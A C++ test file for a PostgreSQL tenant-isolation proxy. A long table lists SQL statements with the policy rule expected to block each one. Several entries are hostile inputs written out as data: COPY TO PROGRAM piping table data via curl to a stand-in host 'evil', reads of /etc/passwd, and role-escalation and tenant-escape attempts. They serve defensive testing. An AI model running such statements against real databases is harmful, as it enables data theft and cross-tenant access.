// The policy rules, statement by statement: what each session may send and which rule blocks the rest.
//
// Sessions (tests/policy/policy_fixture.h has the tenants):
//   M  acme (rls) member, transaction pooling      MS acme member, session pooling
//   A  acme admin, session pooling; this config switches ddl.schema_change off for admins
//   V  acme viewer, session pooling (read-only)    G  globex (schema org_globex) member, session pooling
//   I  initech (own database) member, session      SP acme member, session pooling on a shared pool
// Expected "" means allowed.
#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "config/policy_rules.h"
#include "policy/cache_key.h"
#include "tests/policy/policy_fixture.h"

namespace pgtenant::policy {
namespace {

using testing::BaseYaml;
using testing::LoadTestConfig;
using testing::Session;

enum class Who { M, MS, A, V, G, I, SP };

struct Case {
  Who who;
  const char* sql;
  const char* expected;
};

const std::vector<Case> kCases = {
    // --- context.tenant_setting
    {Who::M, "SET app.current_organization_id = '9b2f1c4e-5d6a-4e8b-9c0d-1e2f3a4b5c6d'", "context.tenant_setting"},
    {Who::MS, "set APP.CURRENT_ORGANIZATION_ID to 'x'", "context.tenant_setting"},
    {Who::MS, "SET \"app.current_organization_id\" = 'x'", "context.tenant_setting"},
    {Who::MS, "SET \"App\".\"Current_Organization_Id\" = 'x'", "context.tenant_setting"},
    {Who::M, "SET LOCAL app.current_organization_id = 'x'", "context.tenant_setting"},
    {Who::MS, "SET SESSION app.current_organization_id = 'x'", "context.tenant_setting"},
    {Who::MS, "RESET app.current_organization_id", "context.tenant_setting"},
    {Who::MS, "SET app.current_organization_id TO DEFAULT", "context.tenant_setting"},
    {Who::MS, "RESET ALL", ""},  // the context is the server session's default (its startup packet)
    {Who::MS, "DISCARD ALL", ""},
    {Who::M, "RESET ALL", ""},
    {Who::M, "DISCARD ALL", ""},
    {Who::MS, "discard plans", ""},
    {Who::SP, "RESET ALL", ""},  // on a shared pool pgtenant sets the context again after it
    {Who::SP, "DISCARD ALL", ""},
    {Who::SP, "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;", ""},  // asyncpg's reset
    {Who::SP, "RESET ALL; SELECT 1", "context.tenant_setting"},  // would run without the context
    {Who::SP, "DISCARD ALL; SELECT 1", "context.tenant_setting"},
    {Who::MS, "RESET ALL; SELECT 1", ""},
    {Who::SP, "DISCARD TEMP", ""},
    {Who::MS, "/* harmless */ SeT /* really */ app.current_organization_id = 'x' -- done", "context.tenant_setting"},
    {Who::MS, "SELECT 1; SELECT 2; SET app.current_organization_id = 'x'", "context.tenant_setting"},
    {Who::SP, "SELECT 1; RESET ALL", ""},
    // --- context.search_path
    {Who::G, "SET search_path = public", "context.search_path"},
    {Who::G, "SET LOCAL search_path TO org_globex, public", "context.search_path"},
    {Who::G, "RESET search_path", "context.search_path"},
    {Who::G, "SET SCHEMA 'public'", "context.search_path"},
    {Who::MS, "SET search_path = public, pg_catalog", ""},
    {Who::M, "SET LOCAL search_path = public", ""},
    {Who::MS, "SET search_path = org_globex", "cross_tenant.schema"},
    {Who::M, "SET LOCAL search_path = 'public, \"org_globex\"'", "cross_tenant.schema"},
    // --- context.role
    {Who::MS, "SET ROLE postgres", "context.role"},
    {Who::M, "SET LOCAL ROLE admin", "context.role"},
    {Who::MS, "RESET ROLE", "context.role"},
    {Who::MS, "SET ROLE NONE", "context.role"},
    {Who::MS, "SET SESSION AUTHORIZATION postgres", "context.role"},
    {Who::MS, "RESET SESSION AUTHORIZATION", "context.role"},
    {Who::MS, "SET session_authorization = 'postgres'", "context.role"},
    {Who::MS, "set \"role\" = 'x'", "context.role"},
    // --- context.set_config, in every position
    {Who::MS, "SELECT set_config('app.current_organization_id', 'x', false)", "context.set_config"},
    {Who::MS, "SELECT pg_catalog.set_config('app.current_organization_id', 'x', false)", "context.set_config"},
    {Who::MS, "SELECT SET_CONFIG('a.b', 'x', true)", "context.set_config"},
    {Who::MS, "SELECT \"set_config\"('a.b', 'x', true)", "context.set_config"},
    {Who::MS, "SELECT * FROM projects WHERE name = set_config('app.current_organization_id', 'x', true)",
     "context.set_config"},
    {Who::MS, "SELECT * FROM set_config('app.current_organization_id', 'x', true)", "context.set_config"},
    {Who::MS, "WITH c AS (SELECT set_config('a.b', 'x', true)) SELECT * FROM c", "context.set_config"},
    {Who::MS, "INSERT INTO projects (name) VALUES (set_config('a.b', 'x', true))", "context.set_config"},
    {Who::MS, "SELECT 1 FROM projects ORDER BY set_config('a.b', 'x', true)", "context.set_config"},
    {Who::MS, "SELECT lower(upper(coalesce(set_config('a.b', 'x', true), '')))", "context.set_config"},
    {Who::MS, "SELECT * FROM projects WHERE EXISTS (SELECT 1 FROM (SELECT set_config('a.b', 'x', true)) s)",
     "context.set_config"},
    {Who::MS, "SELECT CASE WHEN true THEN set_config('a.b', 'x', true) END", "context.set_config"},
    {Who::MS, "CALL do_work(set_config('a.b', 'x', true))", "context.set_config"},
    {Who::MS, "PREPARE p AS SELECT set_config('a.b', 'x', true)", "context.set_config"},
    {Who::MS, "SELECT pg_catalog . set_config ( 'a.b' , 'x' , true )", "context.set_config"},
    {Who::A, "CREATE TABLE t (a text DEFAULT set_config('a.b', 'x', true))", "context.set_config"},
    {Who::MS, "SELECT 1; SELECT 2; SELECT set_config('a.b', 'x', true)", "context.set_config"},
    {Who::MS, "UPDATE pg_settings SET setting = 'x' WHERE name = 'app.current_organization_id'",
     "context.set_config"},
    {Who::MS, "SELECT count(*) FILTER (WHERE set_config('a.b', 'x', true) IS NULL) FROM projects",
     "context.set_config"},
    {Who::MS, "VALUES (1, set_config('a.b', 'x', true))", "context.set_config"},
    {Who::MS, "SELECT * FROM ROWS FROM (pg_catalog.set_config('a.b', 'x', true)) AS r",
     "context.set_config"},
    {Who::MS, "INSERT INTO projects (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = set_config('a.b', 'x', true)",
     "context.set_config"},
    {Who::MS, "SELECT * FROM projects LIMIT length(set_config('a.b', 'x', true))", "context.set_config"},
    {Who::MS, "SELECT array_agg(x ORDER BY set_config('a.b', x, true)) FROM (VALUES ('1')) v(x)", "context.set_config"},
    // --- context.persistent_defaults
    {Who::MS, "ALTER ROLE app_tenant SET app.current_organization_id = 'x'", "context.persistent_defaults"},
    {Who::MS, "ALTER USER app_tenant RESET ALL", "context.persistent_defaults"},
    {Who::MS, "ALTER DATABASE app SET search_path = org_globex", "context.persistent_defaults"},
    {Who::MS, "ALTER SYSTEM SET log_statement = 'none'", "context.persistent_defaults"},
    {Who::MS, "ALTER ROLE app_tenant IN DATABASE app SET role = 'postgres'", "context.persistent_defaults"},
    // --- escalation.role
    {Who::A, "CREATE ROLE evil SUPERUSER", "escalation.role"},
    {Who::A, "CREATE USER evil", "escalation.role"},
    {Who::A, "CREATE GROUP evil", "escalation.role"},
    {Who::A, "ALTER ROLE app_tenant BYPASSRLS", "escalation.role"},
    {Who::A, "ALTER ROLE app_tenant RENAME TO x", "escalation.role"},
    {Who::A, "DROP ROLE app_owner", "escalation.role"},
    {Who::A, "GRANT SELECT ON projects TO PUBLIC", "escalation.role"},
    {Who::A, "GRANT app_owner TO app_tenant", "escalation.role"},
    {Who::A, "REVOKE ALL ON projects FROM app_tenant", "escalation.role"},
    {Who::A, "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", "escalation.role"},
    {Who::A, "SECURITY LABEL ON TABLE projects IS 'classified'", "escalation.role"},
    {Who::A, "REASSIGN OWNED BY app_tenant TO app_owner", "escalation.role"},
    // --- rls.bypass
    {Who::A, "CREATE POLICY p ON projects USING (true)", "rls.bypass"},
    {Who::A, "ALTER POLICY p ON projects USING (true)", "rls.bypass"},
    {Who::A, "DROP POLICY p ON projects", "rls.bypass"},
    {Who::A, "ALTER TABLE projects DISABLE ROW LEVEL SECURITY", "rls.bypass"},
    {Who::A, "ALTER TABLE projects NO FORCE ROW LEVEL SECURITY", "rls.bypass"},
    {Who::A, "alter table projects add column x int, disable row level security", "rls.bypass"},
    {Who::MS, "SET row_security = off", "rls.bypass"},
    {Who::M, "SET LOCAL row_security TO off", "rls.bypass"},
    {Who::A, "ALTER TABLE projects OWNER TO app_tenant", "rls.bypass"},
    {Who::A, "ALTER FUNCTION f() OWNER TO app_tenant", "rls.bypass"},
    {Who::MS, "TRUNCATE projects", "rls.bypass"},
    {Who::A, "CREATE TRIGGER trg BEFORE INSERT ON projects FOR EACH ROW EXECUTE FUNCTION f()", "rls.bypass"},
    {Who::A, "DROP TRIGGER trg ON projects", "rls.bypass"},
    {Who::A, "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "rls.bypass"},
    {Who::A, "ALTER TABLE projects DISABLE TRIGGER ALL", "rls.bypass"},
    {Who::A, "ALTER TABLE projects ENABLE TRIGGER trg", "rls.bypass"},
    {Who::A, "CREATE RULE r AS ON INSERT TO projects DO INSTEAD NOTHING", "rls.bypass"},
    // --- ddl.schema_change (member), allowed for admin in this config
    {Who::MS, "CREATE TABLE t (a int)", "ddl.schema_change"},
    {Who::MS, "ALTER TABLE projects ADD COLUMN x int", "ddl.schema_change"},
    {Who::MS, "DROP TABLE projects", "ddl.schema_change"},
    {Who::MS, "CREATE INDEX i ON projects (name)", "ddl.schema_change"},
    {Who::MS, "CREATE VIEW v AS SELECT 1", "ddl.schema_change"},
    {Who::MS, "CREATE SCHEMA s", "ddl.schema_change"},
    {Who::MS, "CREATE SEQUENCE s", "ddl.schema_change"},
    {Who::MS, "CREATE TYPE mood AS ENUM ('sad', 'ok')", "ddl.schema_change"},
    {Who::MS, "CREATE DOMAIN d AS int CHECK (VALUE > 0)", "ddl.schema_change"},
    {Who::MS, "COMMENT ON TABLE projects IS 'x'", "ddl.schema_change"},
    {Who::MS, "VACUUM projects", "ddl.schema_change"},
    {Who::MS, "ANALYZE projects", "ddl.schema_change"},
    {Who::MS, "SELECT * INTO new_projects FROM projects", "ddl.schema_change"},
    {Who::MS, "CREATE TABLE t AS SELECT 1", "ddl.schema_change"},
    {Who::MS, "REFRESH MATERIALIZED VIEW mv", "ddl.schema_change"},
    {Who::A, "CREATE TABLE t (a int)", ""},
    {Who::A, "ALTER TABLE projects ADD COLUMN x int", ""},
    {Who::A, "CREATE INDEX CONCURRENTLY i ON projects (name)", ""},
    // --- dynamic_sql.*
    {Who::MS, "DO $$ BEGIN PERFORM 1; END $$", "dynamic_sql.do"},
    {Who::MS, "do 'begin null; end'", "dynamic_sql.do"},
    {Who::A, "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "dynamic_sql.function"},
    {Who::A, "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'select 1'", "dynamic_sql.function"},
    {Who::A, "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)", "dynamic_sql.function"},
    {Who::A, "CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)", "dynamic_sql.function"},
    {Who::A, "CREATE CAST (text AS int) WITH FUNCTION f(text)", "dynamic_sql.function"},
    {Who::A, "CREATE LANGUAGE plsample HANDLER plsample_call_handler", "dynamic_sql.function"},
    {Who::A, "CREATE LANGUAGE plperlu", "server.foreign"},  // PostgreSQL reads it as CREATE EXTENSION
    {Who::A, "ALTER FUNCTION f() SECURITY DEFINER", "dynamic_sql.function"},
    {Who::MS, "SELECT query_to_xml('select * from projects', true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT pg_catalog.query_to_xml_and_xmlschema('select 1', true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT query_to_xmlschema('select 1', true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT cursor_to_xml('c', 10, true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT table_to_xml('projects', true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT database_to_xml(true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT schema_to_xml_and_xmlschema('public', true, true, '')", "dynamic_sql.executor"},
    {Who::MS, "SELECT * FROM ts_stat('select vector from docs')", "dynamic_sql.executor"},
    {Who::MS, "SELECT ts_rewrite('a & b'::tsquery, 'select t, s from aliases')", "dynamic_sql.executor"},
    {Who::MS, "SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)", ""},
    // --- cross_tenant.schema (globex's schema from other tenants)
    {Who::MS, "SELECT * FROM org_globex.projects", "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM \"org_globex\".projects", "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM ORG_GLOBEX.Projects", "cross_tenant.schema"},
    {Who::MS, "TABLE org_globex.projects", "cross_tenant.schema"},
    {Who::MS, "SELECT ' ORG_GLOBEX.projects'::regclass", "cross_tenant.schema"},
    {Who::MS, "SELECT 'app.org_globex.projects'::regclass", "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM projects WHERE owner_id IN (SELECT id FROM \"org_globex\".\"users\")",
     "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM app.org_globex.projects", "cross_tenant.schema"},
    {Who::MS, "SELECT 'org_globex.projects'::regclass", "cross_tenant.schema"},
    {Who::MS, "SELECT '\"org_globex\".projects'::regclass", "cross_tenant.schema"},
    {Who::MS, "SELECT nextval('org_globex.project_id_seq')", "cross_tenant.schema"},
    {Who::MS, "SELECT to_regclass('org_globex.x')", "cross_tenant.schema"},
    {Who::MS, "SELECT org_globex.total_revenue(1)", "cross_tenant.schema"},
    {Who::MS, "SELECT 1::org_globex.money_type", "cross_tenant.schema"},
    {Who::MS, "SELECT CAST(x AS org_globex.t) FROM y", "cross_tenant.schema"},
    {Who::MS, "SELECT org_globex.projects.name FROM projects", "cross_tenant.schema"},
    {Who::MS, "INSERT INTO org_globex.projects (name) VALUES ('x')", "cross_tenant.schema"},
    {Who::MS, "UPDATE projects SET a = 1 FROM org_globex.users u WHERE u.id = projects.owner", "cross_tenant.schema"},
    {Who::MS, "DELETE FROM org_globex.projects", "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM projects p JOIN org_globex.tasks t ON p.id = t.project_id", "cross_tenant.schema"},
    {Who::MS, "WITH x AS (SELECT * FROM org_globex.p) SELECT * FROM x", "cross_tenant.schema"},
    {Who::MS, "SELECT * FROM projects WHERE id IN (SELECT pid FROM org_globex.tasks)", "cross_tenant.schema"},
    {Who::MS, "SELECT 1 OPERATOR(org_globex.+) 2", "cross_tenant.schema"},
    {Who::MS, "COPY org_globex.projects TO STDOUT", "cross_tenant.schema"},
    {Who::A, "CREATE TABLE org_globex.t (a int)", "cross_tenant.schema"},
    {Who::A, "DROP SCHEMA org_globex CASCADE", "cross_tenant.schema"},
    {Who::A, "ALTER TABLE projects SET SCHEMA org_globex", "cross_tenant.schema"},
    {Who::A, "CREATE TABLE t (LIKE org_globex.projects)", "cross_tenant.schema"},
    {Who::I, "SELECT * FROM org_globex.projects", "cross_tenant.schema"},
    {Who::G, "SELECT * FROM org_globex.projects", ""},
    {Who::G, "SELECT 'org_globex.projects'::regclass", ""},
    {Who::G, "SELECT * FROM projects", ""},
    {Who::MS, "SELECT relname FROM pg_catalog.pg_class WHERE relnamespace = 'public'::regnamespace", ""},
    // --- server.files / programs / large objects / foreign / other sessions / explain analyze
    {Who::MS, "SELECT pg_read_file('/etc/passwd')", "server.files"},
    {Who::MS, "SELECT pg_catalog.pg_read_binary_file('global/pg_control')", "server.files"},
    {Who::MS, "SELECT * FROM pg_ls_dir('.')", "server.files"},
    {Who::MS, "SELECT * FROM pg_ls_waldir()", "server.files"},
    {Who::MS, "SELECT pg_stat_file('postgresql.conf')", "server.files"},
    {Who::MS, "SELECT pg_file_write('x', 'y', false)", "server.files"},
    {Who::MS, "COPY projects FROM '/tmp/x.csv'", "server.files"},
    {Who::MS, "COPY projects TO '/tmp/x.csv' WITH (FORMAT csv)", "server.files"},
    {Who::MS, "SELECT lo_import('/etc/passwd')", "server.files"},
    {Who::MS, "SELECT lo_export(1234, '/tmp/x')", "server.files"},
    {Who::MS, "LOAD 'auto_explain'", "server.files"},
    {Who::MS, "COPY projects TO PROGRAM 'curl -d @- http://evil'", "server.programs"},
    {Who::MS, "COPY (SELECT 1) TO PROGRAM 'ls'", "server.programs"},
    {Who::MS, "copy projects from program 'cat /etc/passwd'", "server.programs"},
    {Who::MS, "SELECT lo_create(0)", "server.large_objects"},
    {Who::MS, "SELECT loread(lo_open(1, 262144), 100)", "server.large_objects"},
    {Who::MS, "SELECT * FROM pg_largeobject", "server.large_objects"},
    {Who::MS, "SELECT lo_unlink(16400)", "server.large_objects"},
    {Who::MS, "SELECT * FROM dblink('dbname=app', 'select 1') AS t(a int)", "server.foreign"},
    {Who::MS, "SELECT public.dblink_exec('conn', 'delete from projects')", "server.foreign"},
    {Who::A, "CREATE EXTENSION postgres_fdw", "server.foreign"},
    {Who::A, "CREATE EXTENSION IF NOT EXISTS pg_trgm", "server.foreign"},
    {Who::A, "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "server.foreign"},
    {Who::A, "CREATE FOREIGN DATA WRAPPER w", "server.foreign"},
    {Who::A, "CREATE FOREIGN TABLE ft (a int) SERVER s", "server.foreign"},
    {Who::A, "CREATE USER MAPPING FOR CURRENT_USER SERVER s", "server.foreign"},
    {Who::A, "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public", "server.foreign"},
    {Who::A, "DROP EXTENSION pg_trgm", "server.foreign"},
    {Who::MS, "SELECT * FROM pg_stat_activity", "server.other_sessions"},
    {Who::MS, "SELECT query FROM pg_catalog.pg_stat_activity WHERE pid <> pg_backend_pid()", "server.other_sessions"},
    {Who::MS, "SELECT pid FROM pg_locks", "server.other_sessions"},
    {Who::MS, "SELECT * FROM pg_stat_statements", "server.other_sessions"},
    {Who::MS, "SELECT pg_cancel_backend(12345)", "server.other_sessions"},
    {Who::MS, "SELECT pg_terminate_backend(12345)", "server.other_sessions"},
    {Who::MS, "SELECT * FROM pg_stat_get_activity(NULL)", "server.other_sessions"},
    {Who::MS, "EXPLAIN ANALYZE SELECT * FROM projects", "server.explain_analyze"},
    {Who::MS, "explain analyse select 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (ANALYZE true) SELECT 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (ANALYZE, BUFFERS) SELECT 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (analyze on, format json) SELECT 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (ANALYSE 1) SELECT 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (ANALYZE 0) SELECT 1", "server.explain_analyze"},  // numbers never decide a verdict
    {Who::MS, "EXPLAIN (\"analyze\") SELECT 1", "server.explain_analyze"},
    {Who::MS, "EXPLAIN ANALYZE DELETE FROM projects", "server.explain_analyze"},
    {Who::MS, "EXPLAIN (ANALYZE false) SELECT 1", ""},
    {Who::MS, "EXPLAIN (ANALYZE off, COSTS off) SELECT 1", ""},
    {Who::MS, "EXPLAIN SELECT * FROM projects WHERE id = 1", ""},
    {Who::MS, "EXPLAIN (FORMAT JSON, VERBOSE) SELECT 1", ""},
    // --- pooling.session_state (transaction pooling only)
    {Who::M, "CREATE TEMP TABLE tmp (a int)", "pooling.session_state"},
    {Who::M, "CREATE TEMPORARY TABLE tmp AS SELECT 1", "pooling.session_state"},
    {Who::M, "CREATE TEMP VIEW v AS SELECT 1", "pooling.session_state"},
    {Who::M, "CREATE TEMP SEQUENCE s", "pooling.session_state"},
    {Who::M, "SELECT * INTO TEMP tmp FROM projects", "pooling.session_state"},
    {Who::M, "CREATE TABLE pg_temp.x (a int)", "pooling.session_state"},
    {Who::M, "PREPARE p AS SELECT 1", "pooling.session_state"},
    {Who::M, "EXECUTE p", "pooling.session_state"},
    {Who::M, "DEALLOCATE p", ""},  // the relay answers for the client's own statement
    {Who::M, "SELECT 1; DEALLOCATE p", "pooling.session_state"},
    {Who::M, "DEALLOCATE ALL", ""},  // psycopg 3 after a rollback; the relay keeps statements per client
    {Who::M, "DECLARE c CURSOR WITH HOLD FOR SELECT 1", "pooling.session_state"},
    {Who::M, "LISTEN chan", "pooling.session_state"},
    {Who::M, "UNLISTEN *", ""},  // asyncpg's reset query
    {Who::M, "SELECT pg_advisory_lock(1)", "pooling.session_state"},
    {Who::M, "SELECT pg_try_advisory_lock_shared(1, 2)", "pooling.session_state"},
    {Who::M, "SELECT pg_catalog.pg_advisory_unlock_all()", ""},  // asyncpg's reset query
    {Who::M, "SELECT pg_advisory_unlock(1)", "pooling.session_state"},
    {Who::M, "SET SESSION work_mem = '64MB'", "pooling.session_state"},
    {Who::M, "SET statement_timeout = '5s'", ""},  // session_parameters: kept per client
    {Who::M, "SET TIME ZONE 'UTC'", ""},
    {Who::M, "SET extra_float_digits = 3", ""},
    {Who::M, "RESET TimeZone", ""},
    {Who::M, "SET SESSION application_name TO DEFAULT", ""},
    {Who::M, "SET TIME ZONE INTERVAL '+02:00' HOUR TO MINUTE", "pooling.session_state"},
    {Who::M, "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE", "pooling.session_state"},
    {Who::SP, "SET statement_timeout = '5s'", ""},
    {Who::SP, "SET work_mem = '5MB'", "pooling.session_state"},
    {Who::M, "SET LOCAL statement_timeout = '5s'", ""},
    {Who::M, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ""},
    {Who::M, "SELECT pg_advisory_xact_lock(1)", ""},
    {Who::M, "DECLARE c CURSOR FOR SELECT 1", ""},
    {Who::M, "NOTIFY chan, 'hello'", ""},
    {Who::MS, "CREATE TEMP TABLE tmp (a int)", ""},
    {Who::MS, "PREPARE p AS SELECT 1", ""},
    {Who::MS, "SET statement_timeout = '5s'", ""},
    {Who::MS, "SELECT pg_advisory_lock(1)", ""},
    {Who::MS, "LISTEN chan", ""},
    // --- readonly.write (viewer)
    {Who::V, "INSERT INTO projects (name) VALUES ('x')", "readonly.write"},
    {Who::V, "UPDATE projects SET name = 'x'", "readonly.write"},
    {Who::V, "DELETE FROM projects", "readonly.write"},
    {Who::V, "MERGE INTO projects p USING src s ON p.id = s.id WHEN MATCHED THEN DELETE", "readonly.write"},
    {Who::V, "COPY projects FROM STDIN", "readonly.write"},
    {Who::V, "SELECT * FROM projects FOR UPDATE", "readonly.write"},
    {Who::V, "SELECT * FROM projects FOR KEY SHARE", "readonly.write"},
    {Who::V, "SELECT * INTO new_projects FROM projects", "readonly.write"},
    {Who::V, "CALL archive_projects()", "readonly.write"},
    {Who::V, "SELECT nextval('projects_id_seq')", "readonly.write"},
    {Who::V, "SELECT setval('projects_id_seq', 1)", "readonly.write"},
    {Who::V, "SET transaction_read_only = off", "readonly.write"},
    {Who::V, "SET default_transaction_read_only = off", "readonly.write"},
    {Who::V, "SET SESSION default_transaction_read_only TO on", "readonly.write"},
    {Who::V, "BEGIN READ WRITE", "readonly.write"},
    {Who::V, "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "readonly.write"},
    {Who::V, "SET TRANSACTION READ WRITE", "readonly.write"},
    {Who::V, "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "readonly.write"},
    {Who::V, "CREATE TABLE x (a int)", "readonly.write"},
    {Who::V, "LOCK TABLE projects IN ACCESS EXCLUSIVE MODE", "readonly.write"},
    {Who::V, "WITH d AS (DELETE FROM projects RETURNING *) SELECT * FROM d", "readonly.write"},
    {Who::V, "SELECT 1; SELECT 2; INSERT INTO projects DEFAULT VALUES", "readonly.write"},
    {Who::V, "SELECT * FROM projects", ""},
    {Who::V, "BEGIN READ ONLY", ""},
    {Who::V, "BEGIN", ""},
    {Who::V, "SET TRANSACTION READ ONLY", ""},
    {Who::V, "LOCK TABLE projects IN ACCESS SHARE MODE", ""},
    {Who::V, "EXPLAIN SELECT * FROM projects", ""},
    {Who::V, "COPY projects TO STDOUT", ""},
    // --- protocol.encoding
    {Who::MS, "SET client_encoding = 'LATIN1'", "protocol.encoding"},
    {Who::MS, "SET NAMES 'SQL_ASCII'", "protocol.encoding"},
    {Who::MS, "RESET client_encoding", "protocol.encoding"},
    {Who::MS, "SET standard_conforming_strings = off", "protocol.encoding"},
    {Who::M, "SET LOCAL standard_conforming_strings = off", "protocol.encoding"},
    {Who::M, "SET standard_conforming_strings = on", ""},  // no change: the only value pgtenant allows
    {Who::M, "SET client_encoding = 'UTF8'", ""},
    {Who::MS, "SET backslash_quote = on", "protocol.encoding"},
    {Who::MS, "SET client_encoding = 'UTF8'", ""},
    {Who::MS, "SET NAMES 'utf-8'", ""},
    {Who::MS, "SET escape_string_warning = off", ""},
    // --- tenant.denied_table / tenant.denied_function (top-level policy in this config)
    {Who::MS, "SELECT * FROM audit_log", "tenant.denied_table"},
    {Who::MS, "SELECT * FROM public.audit_log", "tenant.denied_table"},
    {Who::MS, "SELECT * FROM PUBLIC.\"audit_log\"", "tenant.denied_table"},
    {Who::MS, "DELETE FROM audit_log WHERE id = 1", "tenant.denied_table"},
    {Who::MS, "SELECT * FROM archive.audit_log", ""},
    {Who::MS, "SELECT pg_sleep(10)", "tenant.denied_function"},
    {Who::MS, "SELECT pg_catalog.pg_sleep(1)", "tenant.denied_function"},
    // --- parse.error (fail closed)
    {Who::MS, "SELEC 1", "parse.error"},
    {Who::MS, "SELECT 'unterminated", "parse.error"},
    {Who::MS, "SELECT 1; SELEC 2", "parse.error"},
    // --- allowed everyday statements
    {Who::M, "SELECT current_setting('app.current_organization_id')", ""},
    {Who::M, "SELECT current_setting('app.current_organization_id', true)::uuid", ""},
    {Who::M, "SHOW app.current_organization_id", ""},
    {Who::M, "SHOW search_path", ""},
    {Who::G, "SHOW search_path", ""},
    {Who::M, "BEGIN", ""},
    {Who::M, "COMMIT", ""},
    {Who::M, "ROLLBACK", ""},
    {Who::M, "SAVEPOINT s1", ""},
    {Who::M, "RELEASE SAVEPOINT s1", ""},
    {Who::M, "ROLLBACK TO SAVEPOINT s1", ""},
    {Who::M, "SET LOCAL lock_timeout = '1s'", ""},
    {Who::M, "LOCK TABLE projects IN SHARE ROW EXCLUSIVE MODE", ""},
    {Who::M, "SELECT pg_backend_pid()", ""},
    {Who::M, "", ""},
    {Who::M, ";", ""},
};

struct Sessions {
  std::shared_ptr<const config::Config> config;
  SessionPolicy For(Who who) const {
    using config::TenantRole;
    switch (who) {
      case Who::M: return Session(*config, "acme", TenantRole::kMember, true);
      case Who::MS: return Session(*config, "acme", TenantRole::kMember, false);
      case Who::A: return Session(*config, "acme", TenantRole::kAdmin, false);
      case Who::V: return Session(*config, "acme", TenantRole::kViewer, false);
      case Who::G: return Session(*config, "globex", TenantRole::kMember, false);
      case Who::I: return Session(*config, "initech", TenantRole::kMember, false);
      case Who::SP: return Session(*config, "acme", TenantRole::kMember, false, true);
    }
    return SessionPolicy{};
  }
};

const char* WhoName(Who who) {
  switch (who) {
    case Who::M: return "acme member (transaction pooling)";
    case Who::MS: return "acme member (session pooling)";
    case Who::A: return "acme admin";
    case Who::V: return "acme viewer";
    case Who::G: return "globex member (schema)";
    case Who::I: return "initech member (database)";
    case Who::SP: return "acme member (shared pool)";
  }
  return "?";
}

const std::string kPolicyYaml =
    "policy:\n"
    "  deny_tables: [public.audit_log]\n"
    "  deny_functions: [pg_sleep]\n"
    "  roles:\n"
    "    admin: { rules: { ddl.schema_change: off } }\n";

TEST_CASE("each statement gets the expected verdict and rule", "[policy][rules]") {
  Sessions sessions{LoadTestConfig(BaseYaml(kPolicyYaml))};
  PolicyEngine engine;
  VerdictMemo memo;
  size_t blocked = 0;
  size_t allowed = 0;
  for (const Case& c : kCases) {
    const PolicyVerdict verdict = *engine.Inspect(memo, sessions.For(c.who), c.sql, StatementSource::kSimpleQuery);
    INFO(WhoName(c.who) << ": " << c.sql);
    INFO("got " << (verdict.allowed ? "allowed" : verdict.rule_id + ": " + verdict.reason));
    if (std::string(c.expected).empty()) {
      CHECK(verdict.allowed);
      ++allowed;
    } else {
      CHECK_FALSE(verdict.allowed);
      CHECK(verdict.rule_id == c.expected);
      CHECK_FALSE(verdict.reason.empty());
      ++blocked;
    }
  }
  CHECK(kCases.size() >= 150);
  CHECK(blocked >= 100);
  CHECK(allowed >= 40);
}

// The cache may key statements by their text with numeric literals folded (policy/cache_key.h), so no
// verdict may depend on the value of a number.
TEST_CASE("verdicts do not depend on numeric literals", "[policy][rules]") {
  Sessions sessions{LoadTestConfig(BaseYaml(kPolicyYaml))};
  PolicyEngine engine;
  VerdictMemo memo;
  for (const Case& c : kCases) {
    const std::string folded = FoldNumericLiterals(c.sql);
    if (folded == c.sql) continue;
    const PolicyVerdict original = *engine.Inspect(memo, sessions.For(c.who), c.sql, StatementSource::kSimpleQuery);
    const PolicyVerdict with_zeros = *engine.Inspect(memo, sessions.For(c.who), folded, StatementSource::kSimpleQuery);
    INFO(WhoName(c.who) << ": " << c.sql << " / " << folded);
    CHECK(with_zeros.allowed == original.allowed);
    CHECK(with_zeros.rule_id == original.rule_id);
  }
}

TEST_CASE("every rule id of the table is a known rule", "[policy][rules]") {
  for (const Case& c : kCases) {
    if (std::string(c.expected).empty()) continue;
    INFO(c.expected);
    CHECK(config::PolicyRuleIndex(c.expected).has_value());
  }
}

TEST_CASE("a blocked verdict reads as the client will see it", "[policy][rules]") {
  Sessions sessions{LoadTestConfig(BaseYaml())};
  PolicyEngine engine;
  VerdictMemo memo;
  const PolicyVerdict verdict =
      *engine.Inspect(memo, sessions.For(Who::MS), "RESET app.current_organization_id", StatementSource::kSimpleQuery);
  CHECK(BlockedMessage(verdict).rfind("pgtenant: blocked by rule context.tenant_setting: ", 0) == 0);
}

TEST_CASE("verdicts carry a fingerprint and the statement without literals", "[policy][rules]") {
  Sessions sessions{LoadTestConfig(BaseYaml())};
  PolicyEngine engine;
  VerdictMemo memo;
